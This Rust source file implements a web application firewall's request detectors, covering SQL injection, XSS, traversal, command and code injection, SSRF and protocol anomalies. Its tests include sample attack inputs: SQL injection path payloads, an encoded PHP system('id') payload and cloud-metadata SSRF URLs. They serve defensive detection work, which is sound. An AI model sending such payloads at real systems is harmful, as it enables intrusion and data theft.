//! Input validation (SPEC sections 4 and 5, step 6): detectors for SQL injection, XSS, path
//! traversal / local file inclusion, OS command injection, protocol anomalies, code injection
//! (PHP, the JVM, Node.js, Ruby, server-side templates) and server-side request forgery / remote
//! file inclusion, run on the parts of a request that the proxy has already parsed.
//!
//! A [`Waf`] is built once per policy update from [`WafSettings`] and is immutable (`Send +
//! Sync`); a request asks it twice, once for the head ([`Waf::inspect_head`]: normalised path,
//! query parameter names and values, header values, cookies) and once for the body
//! ([`Waf::inspect_body`]: urlencoded forms, JSON at any depth, multipart, XML; other types as
//! text from paranoia 2). Each answers the first [`Finding`] or `None`; what to do with it
//! (BLOCK, DETECT) is the caller's business.
//!
//! Every value meets the decodings attackers use before any detector sees it (URL, double URL,
//! `%uXXXX`, HTML entities, `\uXXXX` / `\xNN`, UTF-8 overlongs, fullwidth forms, NULs removed),
//! each bounded: a value is rewritten at most three times and never grows.
//! A value that no decoding changes is never copied.
//!
//! Cost: one pass over a value records which byte classes it holds (its `Shape`);
//! the decoders run only when a byte that starts an escape is present, and each check runs only
//! when the bytes it needs are. Scans jump between the bytes a check opens with (eight bytes at a
//! time where one or two bytes are sought) and keep the work at each hit out of the scanning
//! loop; word tables are hashed at compile time. libinjection's SQL tokenizer, the dearest step
//! (some 20,000 instructions a call), runs only on values with SQL punctuation or an SQL word.
//! A typical request (1 KB JSON body, 10 query parameters, 8 headers) costs some 250,000
//! instructions, about a quarter of them in libinjection (`benches/waf.rs`).
//!
//! Which locations a detector reads at which paranoia level follows the OWASP Core Rule Set:
//!
//! | location | sqli | xss | path_traversal | command_injection | protocol | code_injection | ssrf |
//! | --- | --- | --- | --- | --- | --- | --- | --- |
//! | arguments (query, form, JSON, multipart, XML; names and values), cookies | 1 | 1 | 1 | 1 | 1 | 1 | 1 |
//! | path (normalised) | 1 (libinjection: segments with a quote from 1, the whole path from 2) | 1 | 1 | 3 | 1 | 2 | 2 |
//! | `User-Agent` | 1 | 1 | 1 | 1 | - | 1 | - |
//! | `Referer` | 1 | 1 | 2 | 1 | - | 1 | - (a page's own address) |
//! | other headers | 2 | 1 | 1 | 1 (Shellshock only; all from 2) | - | 1 (the JVM's only; all from 2) | 3 (`Origin` names a developer's `localhost`) |
//!
//! `Cookie` is read as cookie pairs; `Content-Type` and `Content-Length` are the parser's; the
//! credentials in `Authorization` / `Proxy-Authorization` are never read (they belong to JWT).
//! Multipart file contents are not read (as in CRS), their file names are. Bodies of other types
//! are opaque at paranoia 1 and one text value from 2.
//!
//! Each check inside a detector has its own level too (a single `../` inside prose is 2, any
//! HTML tag is 3); a finding reports the higher of the two.
//!
//! Exclusions ([`Skips`]) come from the caller per request, already matched against its own path
//! patterns: detectors skipped for the whole request, and detectors skipped for one parameter
//! (a query, form, JSON or multipart name, a cookie name, or a header name). With none, nothing
//! is looked up.

mod body;
mod cmdi;
mod code;
mod decode;
pub mod encoding;
mod grpc;
mod protocol;
mod sqli;
mod ssrf;
mod traversal;
mod xss;

#[cfg(test)]
mod corpus;

use std::fmt;

pub(crate) use body::grpc_frame_start;
pub use body::{grpc_web_text, is_connect, is_grpc, is_protobuf, json_codec, json_like, rpc_over_http1, text_like};
use decode::Hit;
pub use grpc::{
    grpc_status, Base64Frames, GrpcMessages, Message as GrpcMessage, NotBase64, Piece as GrpcPiece, GRPC_STATUS,
};

/// The detector families; their names are the `detector` label of metrics and events.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Detector {
    Sqli,
    Xss,
    PathTraversal,
    CommandInjection,
    Protocol,
    CodeInjection,
    Ssrf,
}

impl Detector {
    pub const ALL: [Detector; 7] = [
        Detector::Sqli,
        Detector::Xss,
        Detector::PathTraversal,
        Detector::CommandInjection,
        Detector::Protocol,
        Detector::CodeInjection,
        Detector::Ssrf,
    ];

    /// The policy and label name (`sqli`, `xss`, `path_traversal`, `command_injection`,
    /// `protocol`, `code_injection`, `ssrf`).
    pub fn as_str(self) -> &'static str {
        match self {
            Detector::Sqli => "sqli",
            Detector::Xss => "xss",
            Detector::PathTraversal => "path_traversal",
            Detector::CommandInjection => "command_injection",
            Detector::Protocol => "protocol",
            Detector::CodeInjection => "code_injection",
            Detector::Ssrf => "ssrf",
        }
    }

    /// The rule its events name inside the policy (`<policy>/waf:sqli`).
    pub fn rule(self) -> &'static str {
        match self {
            Detector::Sqli => "waf:sqli",
            Detector::Xss => "waf:xss",
            Detector::PathTraversal => "waf:path_traversal",
            Detector::CommandInjection => "waf:command_injection",
            Detector::Protocol => "waf:protocol",
            Detector::CodeInjection => "waf:code_injection",
            Detector::Ssrf => "waf:ssrf",
        }
    }

    /// The inverse of [`Detector::as_str`], for policy parsing.
    pub fn parse(name: &str) -> Option<Detector> {
        Detector::ALL.into_iter().find(|d| d.as_str() == name)
    }

    fn bit(self) -> u8 {
        1 << self as u8
    }
}

impl fmt::Display for Detector {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// A set of detectors, one bit each.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Hash)]
pub struct DetectorSet(u8);

impl DetectorSet {
    pub const EMPTY: DetectorSet = DetectorSet(0);
    pub const ALL: DetectorSet = DetectorSet(0b111_1111);

    pub fn of(detectors: &[Detector]) -> DetectorSet {
        detectors.iter().fold(DetectorSet::EMPTY, |set, &d| set.with(d))
    }

    #[must_use]
    pub fn with(self, detector: Detector) -> DetectorSet {
        DetectorSet(self.0 | detector.bit())
    }

    pub fn contains(self, detector: Detector) -> bool {
        self.0 & detector.bit() != 0
    }

    pub fn is_empty(self) -> bool {
        self.0 == 0
    }

    #[must_use]
    pub fn union(self, other: DetectorSet) -> DetectorSet {
        DetectorSet(self.0 | other.0)
    }

    #[must_use]
    pub fn without(self, other: DetectorSet) -> DetectorSet {
        DetectorSet(self.0 & !other.0)
    }

    /// What an exclusion naming these lifts: every detector when it names the five the first
    /// policies knew, since it was written to lift them all (docs/policy.md said so for upload
    /// endpoints, whose bodies go unread only when no detector is left); otherwise these.
    #[must_use]
    pub fn as_exclusion(self) -> DetectorSet {
        const FIRST_FIVE: DetectorSet = DetectorSet(0b1_1111);
        match self.0 & FIRST_FIVE.0 == FIRST_FIVE.0 {
            true => DetectorSet::ALL,
            false => self,
        }
    }
}

/// What a policy's `inputValidation.waf` asks for (the mode stays with the caller).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct WafSettings {
    /// 1..=4, as in the OWASP Core Rule Set: 1 has few false positives, 4 is the strictest.
    pub paranoia: u8,
    pub detectors: DetectorSet,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum WafError {
    Paranoia(u8),
}

impl fmt::Display for WafError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            WafError::Paranoia(level) => write!(f, "paranoia must be 1, 2, 3 or 4, not {level}"),
        }
    }
}

impl std::error::Error for WafError {}

/// Exclusions for one request: the detectors skipped everywhere, and those skipped for single
/// parameters. Built by the caller from the exclusions whose paths matched the request.
#[derive(Debug, Clone, Copy)]
pub struct Skips<'a> {
    everywhere: DetectorSet,
    params: &'a [ParamSkip<'a>],
}

/// Detectors skipped for the parameter, cookie or header called `name` (headers match without
/// regard to case, everything else exactly).
#[derive(Debug, Clone, Copy)]
pub struct ParamSkip<'a> {
    pub name: &'a str,
    pub detectors: DetectorSet,
}

impl<'a> Skips<'a> {
    pub const NONE: Skips<'static> = Skips { everywhere: DetectorSet::EMPTY, params: &[] };

    pub fn new(everywhere: DetectorSet, params: &'a [ParamSkip<'a>]) -> Skips<'a> {
        Skips { everywhere, params }
    }

    /// Everything skipped for a value called `name` in a location of `kind`.
    fn for_name(&self, kind: LocationKind, name: &[u8]) -> DetectorSet {
        if self.params.is_empty() {
            return self.everywhere;
        }
        let header = kind == LocationKind::Header;
        self.params
            .iter()
            .filter(|p| if header { p.name.as_bytes().eq_ignore_ascii_case(name) } else { p.name.as_bytes() == name })
            .fold(self.everywhere, |set, p| set.union(p.detectors))
    }
}

/// The parsed request head, as the proxy has it.
#[derive(Debug, Clone, Copy)]
pub struct HeadView<'a> {
    /// The normalised path (no query).
    pub path: &'a str,
    /// The query as received, percent-encoded, without the `?`.
    pub query: Option<&'a str>,
    pub headers: &'a http::HeaderMap,
}

/// Where in the request a value was found.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum LocationKind {
    Path,
    QueryName,
    QueryValue,
    Header,
    CookieName,
    CookieValue,
    FormName,
    FormValue,
    JsonKey,
    JsonValue,
    MultipartName,
    MultipartValue,
    MultipartFilename,
    XmlValue,
    /// A field of a gRPC message that reads as text; its name is the field numbers that lead to
    /// it (`2.1`: field 1 of the message in field 2), as the schema is not known.
    GrpcField,
    /// The body as a whole: an unknown content type read as text, or a body that failed to parse.
    Body,
}

impl LocationKind {
    pub fn as_str(self) -> &'static str {
        match self {
            LocationKind::Path => "path",
            LocationKind::QueryName => "query_name",
            LocationKind::QueryValue => "query_value",
            LocationKind::Header => "header",
            LocationKind::CookieName => "cookie_name",
            LocationKind::CookieValue => "cookie_value",
            LocationKind::FormName => "form_name",
            LocationKind::FormValue => "form_value",
            LocationKind::JsonKey => "json_key",
            LocationKind::JsonValue => "json_value",
            LocationKind::MultipartName => "multipart_name",
            LocationKind::MultipartValue => "multipart_value",
            LocationKind::MultipartFilename => "multipart_filename",
            LocationKind::XmlValue => "xml_value",
            LocationKind::GrpcField => "grpc_field",
            LocationKind::Body => "body",
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Location {
    pub kind: LocationKind,
    /// The parameter, cookie or header name, escaped and cut to [`MAX_NAME`] characters; empty
    /// for the path and the body.
    pub name: String,
}

/// How much of a name a finding carries.
pub const MAX_NAME: usize = 64;
/// How much of the matched text a finding carries.
pub const MAX_FRAGMENT: usize = 64;

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    pub detector: Detector,
    pub location: Location,
    /// The paranoia level of the check that fired (never above the configured one).
    pub paranoia: u8,
    /// The matched text after decoding, escaped for logs and cut to [`MAX_FRAGMENT`] characters;
    /// never the whole value.
    pub fragment: String,
}

/// Where a value sits decides which detectors read it and from which paranoia level
/// (index: `Detector as usize`; 0 = never).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Class {
    /// Query, form, JSON, multipart and XML names and values; cookie names and values.
    Arg,
    Path,
    UserAgent,
    Referer,
    /// Any other header.
    Header,
}

impl Class {
    fn min_levels(self) -> [u8; 7] {
        // [sqli, xss, path_traversal, command_injection, protocol, code_injection, ssrf]
        match self {
            Class::Arg => [1, 1, 1, 1, 1, 1, 1],
            Class::Path => [1, 1, 1, 3, 1, 2, 2],
            Class::UserAgent => [1, 1, 1, 1, 1, 1, 0],
            Class::Referer => [1, 1, 2, 1, 1, 1, 0],
            Class::Header => [2, 1, 1, 1, 1, 1, 3],
        }
    }
}

const CLASSES: [Class; 5] = [Class::Arg, Class::Path, Class::UserAgent, Class::Referer, Class::Header];

/// What of a request body [`Waf::reads_body`] reads.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BodyReading {
    Whole,
    /// Only a body whose first bytes show JSON ([`json_like`]), whatever its type says.
    IfJson,
    /// Whole, unless its first byte shows a gRPC message ([`body::grpc_framed`]).
    UnlessGrpcFramed,
    /// Whole when its first bytes are text or JSON, else it streams on unread, a binary upload:
    /// a body with no type (`curl -T`, Python's `requests.put(data=bytes)` and Go's
    /// `http.Post(url, "", r)` upload files with no type), and from paranoia 2 one of a type no
    /// WAF parses (read whole, every image over `inspectBodyBytes` was 413).
    IfText,
}

/// The compiled WAF of one policy snapshot.
#[derive(Debug, Clone)]
pub struct Waf {
    paranoia: u8,
    /// Per [`Class`]: the detectors that read it at this paranoia level.
    plans: [DetectorSet; 5],
}

/// A value to inspect and where it came from.
pub(crate) struct Value<'v> {
    class: Class,
    kind: LocationKind,
    name: &'v [u8],
    value: &'v [u8],
}

/// Headers never read: parsed elsewhere (cookies, framing) or credentials.
fn unread_header(name: &str) -> bool {
    matches!(name, "cookie" | "authorization" | "proxy-authorization" | "content-length" | "content-type")
}

impl Waf {
    pub fn new(settings: WafSettings) -> Result<Waf, WafError> {
        if !(1..=4).contains(&settings.paranoia) {
            return Err(WafError::Paranoia(settings.paranoia));
        }
        let mut plans = [DetectorSet::EMPTY; 5];
        for (plan, class) in plans.iter_mut().zip(CLASSES) {
            let levels = class.min_levels();
            for d in Detector::ALL {
                if settings.detectors.contains(d) && levels[d as usize] != 0 && levels[d as usize] <= settings.paranoia
                {
                    *plan = plan.with(d);
                }
            }
        }
        Ok(Waf { paranoia: settings.paranoia, plans })
    }

    pub fn paranoia(&self) -> u8 {
        self.paranoia
    }

    /// The detectors it runs on some value, at its paranoia.
    pub fn detectors(&self) -> DetectorSet {
        self.plans.iter().fold(DetectorSet::EMPTY, |all, plan| all.union(*plan))
    }

    /// Inspects the path, the query (names and values), the headers and the cookies.
    pub fn inspect_head(&self, head: &HeadView<'_>, skip: &Skips<'_>) -> Option<Finding> {
        let path = head.path.as_bytes();
        if let Some(f) =
            self.value(Value { class: Class::Path, kind: LocationKind::Path, name: b"", value: path }, skip)
        {
            return Some(f);
        }
        if let Some(query) = head.query {
            if let Some(f) = self.raw_encoded(query.as_bytes(), false, skip) {
                return Some(f);
            }
            if let Some(f) = body::form(self, query.as_bytes(), LocationKind::QueryName, LocationKind::QueryValue, skip)
            {
                return Some(f);
            }
            if let Some(f) = grpc::connect_get(self, query.as_bytes(), skip) {
                return Some(f);
            }
        }
        for (name, value) in head.headers {
            let name = name.as_str();
            if name == "cookie" {
                if let Some(f) = body::cookies(self, value.as_bytes(), skip) {
                    return Some(f);
                }
                continue;
            }
            if unread_header(name) {
                continue;
            }
            let class = match name {
                "user-agent" => Class::UserAgent,
                "referer" => Class::Referer,
                _ => Class::Header,
            };
            let v = Value { class, kind: LocationKind::Header, name: name.as_bytes(), value: value.as_bytes() };
            if let Some(f) = self.value(v, skip) {
                return Some(f);
            }
        }
        None
    }

    /// Inspects a request body of the given `Content-Type` (the header's value, parameters and
    /// all). The caller bounds `body` by `maxBodyBytes`; the cost here is linear in its size.
    pub fn inspect_body(&self, content_type: Option<&[u8]>, body: &[u8], skip: &Skips<'_>) -> Option<Finding> {
        if body.is_empty() {
            return None;
        }
        body::inspect(self, content_type, body, skip)
    }

    /// Inspects one whole gRPC message, uncompressed: protobuf read without its schema, or JSON
    /// for gRPC's JSON codec (`application/grpc+json`).
    pub fn inspect_grpc_message(&self, payload: &[u8], json_codec: bool, skip: &Skips<'_>) -> Option<Finding> {
        if payload.is_empty() {
            return None;
        }
        grpc::message(self, payload, json_codec, skip)
    }

    /// How [`Waf::inspect_body`] reads a body of this `Content-Type`: whole for forms,
    /// multipart, JSON, XML and protobuf; a body without a type (read as a form), and from
    /// paranoia 2 one of any other type but a gRPC message ([`body::grpc_framed`]), when it starts
    /// as text or JSON; otherwise only when it is JSON by [`json_like`]. A caller need not hold
    /// back a body that its first bytes show is not the WAF's.
    pub fn reads_body(&self, content_type: Option<&[u8]>) -> BodyReading {
        if content_type.is_none() {
            return BodyReading::IfText;
        }
        match (body::structured(content_type), self.paranoia >= 2) {
            (true, _) => BodyReading::Whole,
            (false, true) if body::is_grpc(content_type) => BodyReading::UnlessGrpcFramed,
            (false, true) => BodyReading::IfText,
            (false, false) => BodyReading::IfJson,
        }
    }

    /// Protocol checks on a still percent-encoded string (the query, or a form body).
    fn raw_encoded(&self, raw: &[u8], body: bool, skip: &Skips<'_>) -> Option<Finding> {
        let active = self.plans[Class::Arg as usize].without(skip.everywhere);
        if !active.contains(Detector::Protocol) {
            return None;
        }
        let kind = if body { LocationKind::Body } else { LocationKind::QueryValue };
        protocol::encoding(raw, self.paranoia, body).map(|hit| finding(Detector::Protocol, kind, b"", raw, hit))
    }

    /// Runs every detector that reads this value's class, after decoding.
    fn value(&self, v: Value<'_>, skip: &Skips<'_>) -> Option<Finding> {
        // A protobuf string or `bytes` carries any byte by design (a NUL, a line break): no
        // HTTP parser reads it, so nothing in it is a protocol anomaly.
        let opaque = v.kind == LocationKind::GrpcField;
        self.value_read(v, skip, opaque)
    }

    /// [`Waf::value`] for bytes that never said they are text (a body of a type no WAF parses,
    /// read whole): the `protocol` detector is not run, as an image's bytes are no anomaly.
    fn opaque_value(&self, v: Value<'_>, skip: &Skips<'_>) -> Option<Finding> {
        self.value_read(v, skip, true)
    }

    fn value_read(&self, v: Value<'_>, skip: &Skips<'_>, opaque: bool) -> Option<Finding> {
        let mut active = self.plans[v.class as usize].without(skip.for_name(v.kind, v.name));
        if opaque {
            active = active.without(DetectorSet::of(&[Detector::Protocol]));
        }
        if active.is_empty() || v.value.is_empty() {
            return None;
        }
        let pl = self.paranoia;
        let min = v.class.min_levels();
        let report = |d: Detector, buf: &[u8], hit: Hit| {
            let hit = Hit { level: hit.level.max(min[d as usize]), ..hit };
            finding(d, v.kind, v.name, buf, hit)
        };
        // One pass over the raw value says which bytes it holds; a value without a byte that can
        // start an escape is never handed to the decoders (nor copied).
        let raw = decode::Shape::of(v.value);
        let text = if raw.may_escape() { decode::canonical(v.value) } else { std::borrow::Cow::Borrowed(v.value) };
        let decoded = matches!(text, std::borrow::Cow::Owned(_));
        let text = &*text;
        let shape = if decoded { decode::Shape::of(text) } else { raw };
        if active.contains(Detector::Protocol) {
            // Control bytes, line breaks, non-ASCII or a blank before `HTTP/`: nothing else here
            // is a protocol anomaly.
            let suspect = raw.control()
                || raw.line_break()
                || raw.non_ascii()
                || (raw.whitespace() && raw.has(const { decode::Shape::mask(b"/") }));
            if suspect || v.class == Class::Path {
                if let Some(hit) = protocol::value(v.value, v.class == Class::Arg, v.kind, pl) {
                    return Some(report(Detector::Protocol, v.value, hit));
                }
            }
        }
        let upload = v.kind == LocationKind::MultipartFilename
            || (v.kind == LocationKind::Header
                && matches!(v.name, b"x-filename" | b"x_filename" | b"x.filename" | b"x-file-name"));
        if active.contains(Detector::PathTraversal) {
            let hit = if v.class == Class::Path {
                traversal::path(text, pl)
            } else if upload {
                traversal::upload_name(text, pl)
            } else {
                traversal::value(text, shape, pl)
            };
            if let Some(hit) = hit {
                return Some(report(Detector::PathTraversal, text, hit));
            }
        }
        if active.contains(Detector::Xss) {
            let libinjection = matches!(v.class, Class::Arg | Class::UserAgent | Class::Referer) || pl >= 2;
            if let Some(hit) = xss::check(text, shape, libinjection, pl) {
                return Some(report(Detector::Xss, text, hit));
            }
        }
        if active.contains(Detector::Sqli) {
            // libinjection reads the whole path from 2, as CRS; our own checks from 1.
            let libinjection = v.class != Class::Path || pl >= 2;
            if let Some(hit) = sqli::check(text, shape, libinjection, pl) {
                return Some(report(Detector::Sqli, text, hit));
            }
            // From 1, each segment that holds a quote: a REST id (`/users/{id}`) is what routers
            // decode and apps hand to SQL, and a quote is where a string context breaks.
            if v.class == Class::Path && !libinjection && shape.has(const { decode::Shape::mask(b"'\"`") }) {
                let mut start = 0;
                for segment in text.split(|&b| b == b'/') {
                    let at = start;
                    start += segment.len() + 1;
                    let quoted = segment.iter().any(|b| matches!(b, b'\'' | b'"' | b'`'));
                    if let Some(hit) =
                        quoted.then(|| sqli::check(segment, decode::Shape::of(segment), true, pl)).flatten()
                    {
                        let hit = Hit { start: hit.start + at, end: hit.end + at, ..hit };
                        return Some(report(Detector::Sqli, text, hit));
                    }
                }
            }
        }
        if active.contains(Detector::CommandInjection) {
            // Other headers get only the Shellshock check below paranoia 2.
            let full = v.class != Class::Header || pl >= 2;
            let hit = match v.class {
                Class::UserAgent => cmdi::user_agent(text, shape, pl),
                _ => cmdi::check(text, shape, full, pl),
            };
            if let Some(hit) = hit {
                return Some(report(Detector::CommandInjection, text, hit));
            }
        }
        if active.contains(Detector::CodeInjection) {
            // Other headers get only the JVM's checks below paranoia 2 (Log4Shell came in any).
            let full = v.class != Class::Header || pl >= 2;
            let hit = match upload {
                true => code::upload_name(text, pl),
                false => None,
            };
            if let Some(hit) = hit.or_else(|| code::check(text, shape, full, pl)) {
                return Some(report(Detector::CodeInjection, text, hit));
            }
        }
        if active.contains(Detector::Ssrf) {
            let hit = match v.class {
                Class::Path => ssrf::path(text, shape),
                _ => ssrf::check(text, shape, v.name, pl),
            };
            if let Some(hit) = hit {
                return Some(report(Detector::Ssrf, text, hit));
            }
        }
        None
    }
}

/// The decodings every value meets before the detectors (exposed for fuzzing and benchmarks).
#[doc(hidden)]
pub fn canonical(value: &[u8]) -> std::borrow::Cow<'_, [u8]> {
    decode::canonical(value)
}

fn finding(detector: Detector, kind: LocationKind, name: &[u8], buf: &[u8], hit: Hit) -> Finding {
    let start = hit.start.min(buf.len());
    let end = hit.end.clamp(start, buf.len());
    let fragment = match holds_secret(kind, name) {
        true => format!("[redacted: {} bytes]", buf.len()),
        false => decode::escape(&buf[start..end], MAX_FRAGMENT),
    };
    Finding {
        detector,
        location: Location { kind, name: decode::escape(name, MAX_NAME) },
        paranoia: hit.level,
        fragment,
    }
}

/// Parts of names that say a value is a credential.
const SECRET_NAMES: [&[u8]; 10] =
    [b"pass", b"pwd", b"secret", b"token", b"apikey", b"api_key", b"api-key", b"auth", b"session", b"credential"];

/// A value whose fragment must not reach the event log: a cookie's (a session's key, whatever
/// its name), or one whose name says it is a credential. A strong password often looks like an
/// attack, and the fragment of a short one is all of it.
fn holds_secret(kind: LocationKind, name: &[u8]) -> bool {
    use LocationKind::*;
    match kind {
        CookieValue => true,
        QueryValue | Header | FormValue | JsonValue | MultipartValue | XmlValue => {
            SECRET_NAMES.iter().any(|word| name.windows(word.len()).any(|w| w.eq_ignore_ascii_case(word)))
        }
        _ => false,
    }
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    pub(crate) fn waf(pl: u8) -> Waf {
        Waf::new(WafSettings { paranoia: pl, detectors: DetectorSet::ALL }).unwrap()
    }

    #[test]
    fn an_exclusion_of_the_first_five_detectors_lifts_every_one() {
        let five = DetectorSet::of(&Detector::ALL[..5]);
        assert_eq!(five.as_exclusion(), DetectorSet::ALL);
        let four = DetectorSet::of(&Detector::ALL[..4]);
        assert_eq!(four.as_exclusion(), four);
        let code = DetectorSet::of(&[Detector::CodeInjection]);
        assert_eq!(code.as_exclusion(), code);
        let later = DetectorSet::of(&[Detector::CodeInjection, Detector::Ssrf]);
        assert_eq!(later.as_exclusion(), later);
        // What the five lift is then skipped: a PHP payload passes where they apply.
        let w = waf(1);
        let h = http::HeaderMap::new();
        let view = HeadView { path: "/upload", query: Some("x=%3C%3Fphp%20system(%27id%27)%3B"), headers: &h };
        assert_eq!(w.inspect_head(&view, &Skips::NONE).map(|f| f.detector), Some(Detector::CodeInjection));
        assert_eq!(w.inspect_head(&view, &Skips::new(five.as_exclusion(), &[])), None);
    }

    #[test]
    fn each_detectors_rule_is_named_after_it() {
        for d in Detector::ALL {
            assert_eq!(d.rule(), format!("waf:{d}"));
            assert_eq!(Detector::parse(d.as_str()), Some(d));
        }
    }

    #[test]
    fn request_forgery_is_read_in_arguments_from_one_the_path_from_two_and_headers_from_three() {
        let metadata = "http://169.254.169.254/latest/meta-data/";
        let at = |pl: u8, path: &str, query: Option<&str>, h: &http::HeaderMap| {
            waf(pl).inspect_head(&head(path, query, h), &Skips::NONE).map(|f| (f.detector, f.paranoia))
        };
        let none = http::HeaderMap::new();
        let query = format!("url={metadata}");
        assert_eq!(at(1, "/fetch", Some(&query), &none), Some((Detector::Ssrf, 1)));
        let cookie = headers(&[("cookie", "next=localhost/admin")]);
        assert_eq!(at(1, "/", None, &cookie), Some((Detector::Ssrf, 1)));
        let path = "/proxy/http:/169.254.169.254/latest";
        assert_eq!(at(1, path, None, &none), None);
        assert_eq!(at(2, path, None, &none), Some((Detector::Ssrf, 2)));
        let forwarded = headers(&[("x-callback", metadata)]);
        assert_eq!(at(2, "/", None, &forwarded), None);
        assert_eq!(at(3, "/", None, &forwarded), Some((Detector::Ssrf, 3)));
        // A page's own address and a developer's browser: never read.
        let browser = headers(&[("referer", "http://localhost:3000/app"), ("user-agent", "bot (+http://127.0.0.1/)")]);
        let only = Waf::new(WafSettings { paranoia: 4, detectors: DetectorSet::of(&[Detector::Ssrf]) }).unwrap();
        assert_eq!(only.inspect_head(&head("/", None, &browser), &Skips::NONE), None);
        let origin = headers(&[("origin", "http://localhost:3000")]);
        assert!(only.inspect_head(&head("/", None, &origin), &Skips::NONE).is_some(), "other headers from 3");
        // Lifted by an exclusion of `ssrf` alone.
        let skip = Skips::new(DetectorSet::of(&[Detector::Ssrf]), &[]);
        assert_eq!(waf(1).inspect_head(&head("/fetch", Some(&query), &none), &skip), None);
    }

    fn head<'a>(path: &'a str, query: Option<&'a str>, headers: &'a http::HeaderMap) -> HeadView<'a> {
        HeadView { path, query, headers }
    }

    fn headers(pairs: &[(&'static str, &str)]) -> http::HeaderMap {
        let mut map = http::HeaderMap::new();
        for (k, v) in pairs {
            map.append(*k, v.parse().unwrap());
        }
        map
    }

    #[test]
    fn ordinary_api_requests_pass_at_every_paranoia_level_they_should() {
        let h = headers(&[
            (
                "user-agent",
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
            ),
            ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
            ("accept-language", "en-GB,en;q=0.9,fr;q=0.8"),
            ("referer", "https://shop.example.com/orders?page=2&sort=-created_at"),
            ("cookie", "session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.abc-_def; theme=dark; _ga=GA1.2.3.4"),
            ("authorization", "Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhZG1pbiJ9.c2lnbmF0dXJl"),
            ("x-request-id", "550e8400-e29b-41d4-a716-446655440000"),
            ("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
        ]);
        let queries = [
            "page=2&per_page=50&sort=-created_at&q=O%27Brien",
            "email=jane.doe%40example.com&name=Jos%C3%A9+Mar%C3%ADa",
            "redirect=https%3A%2F%2Fexample.com%2Fcallback%3Fx%3D1&state=af0ifjsldkj",
            "q=select+a+size+from+the+menu&lang=en",
            "filter=status%3Dactive&fields=id,name,email",
            "ids=1,2,3&from=2024-01-01T00:00:00Z&to=2024-02-01",
        ];
        let w = waf(1);
        for q in queries {
            let f = w.inspect_head(&head("/api/v1/orders/42", Some(q), &h), &Skips::NONE);
            assert_eq!(f, None, "{q}");
        }
    }

    #[test]
    fn sql_injection_in_a_path_segment_with_a_quote_is_found_at_paranoia_one() {
        let h = headers(&[]);
        let w = waf(1);
        // A REST id (`/users/{id}`): routers decode the segment and apps hand it to SQL.
        for path in [
            "/users/' OR 1=1--",
            "/users/admin'--",
            "/users/1' UNION SELECT password FROM users--",
            "/u/x/' or '1'='1/edit",
        ] {
            let f = w.inspect_head(&head(path, None, &h), &Skips::NONE);
            assert_eq!(f.map(|f| (f.detector, f.location.kind)), Some((Detector::Sqli, LocationKind::Path)), "{path}");
        }
        // Names and titles with quotes, and segments without one, are read as before.
        for path in [
            "/authors/O'Brien/books",
            "/songs/Rock 'n' roll",
            "/wiki/Don't_Stop_Me_Now",
            "/stations/union station",
            "/users/1 or 2",
        ] {
            assert_eq!(w.inspect_head(&head(path, None, &h), &Skips::NONE), None, "{path}");
        }
    }

    /// Values ordinary API traffic carries, some chosen to look like attacks to a naive filter.
    const ORDINARY: &[&str] = &[
        "Conan O'Brien",
        "Jane O'Neil-Smith",
        "Rock 'n' roll",
        "Tom & Jerry's \"Big\" Adventure",
        "Ben & Jerry's; half-baked",
        "Please select a size from the menu, then update your order or delete it.",
        "The union representatives will select a delegate from each branch where possible.",
        "Drop me a line; I'll call you back | thanks & regards",
        "Insert the card into the reader and wait",
        "I need to sleep (8 hours at least)",
        "alert: disk almost full",
        "Please confirm (by email) before Friday",
        "eval report for Q3",
        "if you want, call me at +44 20 7946 0958",
        "for each item in the list, do the obvious thing",
        "x = y + 1; z = x * 2",
        "a < b && c > d",
        "50% off everything, 100% cotton",
        "$5.00 + tax",
        "C:\\Program Files\\Example\\app.exe",
        "/usr/local/share/doc/readme.txt",
        "~/Documents/notes.md",
        "https://example.com/search?q=rock+%26+roll&page=2#results",
        "mailto:jane.doe+news@example.co.uk",
        "jane.doe@example.com",
        "550e8400-e29b-41d4-a716-446655440000",
        "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.POstGetfAytaZS82wHcjoTyoqhMyxXiWdR7Nn7A29DNSl0EiXLdwJ6xC6AfgZWF1bOsS_TuYI3OG85AmiExREkrS6tDfTQ2B3WXlrr-wp5AokiRbz3_oB4OxG-W9KcEEbDRcZc0nH3L7LzYptiy1PtAylQGxHTWZXtGz4ht0bAecBgmpdgXMguEIcoqPJ1n3pIWk_dUZegpqx0Lka21H6XxUTxiy8OcaarA8zdnPUnV6AmNP3ecFawIFYdvJB_cm-GvpCSbr8G8y_Mllj8f4x9nBH8pQux89_6gUY618iYv7tuPWBFfEbLxtF2pZS6YC1aSfLQxeNe8djT9YjpvRZA",
        "SGVsbG8gV29ybGQhIFRoaXMgaXMgYmFzZTY0Lg==",
        "d41d8cd98f00b204e9800998ecf8427e",
        "2024-02-29T23:59:59.999+01:00",
        "# Release notes\n\n- Fixed the `select` box\n- See [the guide](https://example.com/guide) and `npm install`\n\n**Bold** _italic_",
        "Use `git log --oneline` to list commits",
        "SELECT is a reserved word; avoid it as a column name",
        "The document.pdf is attached",
        "window seat please",
        "Dear team,\r\nNote: the meeting moved.\r\nRegards",
